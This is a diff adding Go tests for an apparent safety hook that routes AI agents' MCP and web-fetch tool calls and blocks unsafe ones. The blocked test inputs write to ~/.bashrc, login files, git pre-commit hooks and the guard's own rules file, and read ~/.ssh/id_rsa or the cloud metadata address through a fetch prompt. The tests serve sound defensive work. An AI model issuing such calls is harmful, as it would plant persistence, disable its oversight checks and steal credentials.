@@ -1,0 +1,68 @@
+package hook
+
+import (
+	"strings"
+	"testing"
+)
+
+// routes20Cases adds in, with $H the home, as agent A's MCP tool
+// mcp__s__tool, agent B's beforeMCPExecution and agent C's tool.
+func routes20Cases(home, proj string) (add func(tool, in string, block bool), cases *[]routeCase) {
+	r := strings.NewReplacer("$H", home)
+	var cs []routeCase
+	return func(tool, in string, block bool) {
+		in = r.Replace(in)
+		cs = append(cs,
+			routeCase{"a", proj, "mcp__s__" + tool, in, block},
+			routeCase{"b", proj, "", in, block},
+			routeCase{"c", proj, "mcp_s_" + tool, in, block})
+	}, &cs
+}
+
+// TestRoutesReadNameWithSource covers review 20a F1: a tool whose name
+// reads as read-only (get_object, get, query, read_query) only reads its
+// path fields when the path is its one object; a call that also carries a
+// source (a URL, a bucket and key, SQL) writes into its local paths.
+func TestRoutesReadNameWithSource(t *testing.T) {
+	home, proj := routes18World(t)
+	add, cases := routes20Cases(home, proj)
+	for _, c := range []struct{ tool, in string }{
+		{"get_object", `{"bucket":"b","key":"k","local_path":"../.guard/rules.json"}`},
+		{"get_object", `{"bucket":"b","key":"k","local_path":".git/hooks/pre-commit"}`},
+		{"get_object", `{"bucket":"b","key":"k","local_path":"~/.bashrc"}`},
+		{"get", `{"url":"https://x.example/a","file":"~/.bashrc"}`},
+		{"get", `{"url":"https://x.example/a","file":"$H/.zlogin"}`},
+		{"query", `{"db_path":"$H/.bash_login","query":"CREATE TABLE t(x)"}`},
+		{"read_query", `{"database":"$H/.zlogin","sql":"SELECT 1"}`},
+		{"query", `{"db":"../.guard/x.db","sql":"SELECT 1"}`},
+		{"read_query", `{"path":"` + proj + `/.git/hooks/pre-commit","sql":"SELECT 1"}`},
+	} {
+		add(c.tool, c.in, true)
+	}
+	// A plain read tool still reads; a read of a protected file still blocks.
+	add("read_file", `{"path":"src/main.go"}`, false)
+	add("read_text_file", `{"path":"`+proj+`/README"}`, false)
+	add("get_file_contents", `{"owner":"o","repo":"r","path":"src/main.go"}`, false)
+	add("read_file", `{"path":"~/.ssh/id_rsa"}`, true)
+	add("query", `{"sql":"SELECT name FROM users WHERE id = 3"}`, false)
+	runRouteCases(t, *cases)
+}
+
+// TestRoutesWebFetchEveryField covers review 20a F4: agent C's web_fetch
+// fetches the prompt's URLs even when a url field is present, and a file:
+// URL in either is a read of its path.
+func TestRoutesWebFetchEveryField(t *testing.T) {
+	home, proj := routes18World(t)
+	r := strings.NewReplacer("$H", home)
+	var cases []routeCase
+	add := func(in string, block bool) {
+		cases = append(cases, routeCase{"c", proj, "web_fetch", r.Replace(in), block})
+	}
+	add(`{"prompt":"get http://169.254.169.254/latest/meta-data","url":"https://example.com"}`, true)
+	add(`{"prompt":"summarize file://$H/.ssh/id_rsa please","url":"https://example.com"}`, true)
+	add(`{"prompt":"summarize file://$H/.ssh/id_rsa please"}`, true)
+	add(`{"url":"file://$H/.ssh/id_rsa"}`, true)
+	add(`{"prompt":"summarize https://example.com/docs","url":"https://example.com/docs"}`, false)
+	add(`{"prompt":"summarize https://example.com/docs"}`, false)
+	runRouteCases(t, cases)
+}
